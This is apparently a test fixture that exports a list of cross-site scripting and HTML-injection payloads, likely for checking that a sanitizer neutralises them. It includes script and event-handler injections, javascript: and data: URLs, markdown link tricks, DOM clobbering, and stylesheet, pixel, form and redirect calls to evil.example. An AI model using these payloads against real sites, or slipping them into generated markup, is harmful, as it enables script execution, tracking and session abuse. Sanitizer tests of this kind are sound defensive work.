/** Content that would run, load, cover or shadow something in a page that shows it as it is. */

const RUN = 'window.ran=1'
export const payloads = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><a xlink:href="javascript:${RUN}">math</a></math>`,
  `<style>@import "https://evil.example/x.css"; body { display: none }</style>`,
  `<link rel=stylesheet href="https://evil.example/x.css"><base href="https://evil.example/">`,
  `<a href="javascript:${RUN}">plain</a> <a href="java&Tab;script:${RUN}">tab</a> <a href="&#106;avascript:${RUN}">entity</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">data</a> <a href="vbscript:${RUN}">vb</a>`,
  `[markdown](javascript:${RUN}) ![image](javascript:${RUN}) <javascript:${RUN}> [ref]\n\n[ref]: javascript:${RUN}`,
  `[title](https://a.example "x\\" onmouseover=\\"${RUN}")`,
  '![tracker](https://evil.example/pixel.png) <img src="https://evil.example/pixel.png"> <img src="/api/user/logout">',
  '```html"><script>window.ran=1</script>\n<img src=x onerror=window.ran=1>\n```',
  `<form id=messages action="https://evil.example"><input name=csrf autofocus onfocus="${RUN}"><button>go</button></form>`,
  '<a id=toasts name=getElementById>x</a><img name=querySelector><a id=announcement></a><a id=inbox-bell></a>',
  `<div style="position:fixed;inset:0" class="scrim" onclick="${RUN}" hx-get="/api/user/logout" hx-trigger="load">cover</div>`,
  `<details open ontoggle="${RUN}"><summary>s</summary></details><video><source onerror="${RUN}"></video>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript><template><script>${RUN}</script></template>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/"><p onpointerenter="${RUN}">hover</p>`,
]
